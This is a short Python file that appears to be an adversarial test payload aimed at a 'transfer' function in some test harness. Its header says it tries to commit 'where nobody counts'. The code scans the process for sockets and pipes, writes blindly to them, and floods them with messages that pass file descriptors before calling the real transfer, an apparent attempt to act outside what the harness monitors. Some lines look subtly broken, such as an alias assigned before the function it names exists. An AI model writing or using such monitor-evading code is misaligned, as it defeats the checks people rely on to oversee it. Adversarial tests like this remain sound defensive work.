# Tries: opens connections through the door by hand and commits where nobody counts.
# On: transfer
# Says: what is no (message|request)|look for a wait that nobody ends
# Backends: each

import os
import socket
import stat


def lines():
    """All sockets and pipes of this process."""
    for number in range(3, 256):
        try:
            mode = os.fstat(number).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
            yield number


def write(data):
    for number in lines():
        try:
            os.set_blocking(number, False)
            os.write(number, data)
        except OSError:
            pass


import array

honest = transfer


def transfer(engine, source, target, amount):
    for number in lines():
        ours, theirs = socket.socketpair()
        try:
            door = socket.socket(fileno=os.dup(number))
            door.setblocking(False)
            for _ in range(20):
                door.sendmsg([b"\x00\x00\x00\x01\xc0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [theirs.fileno()] * 4))])
        except (OSError, ValueError):
            pass
    honest(engine, source, target, amount)
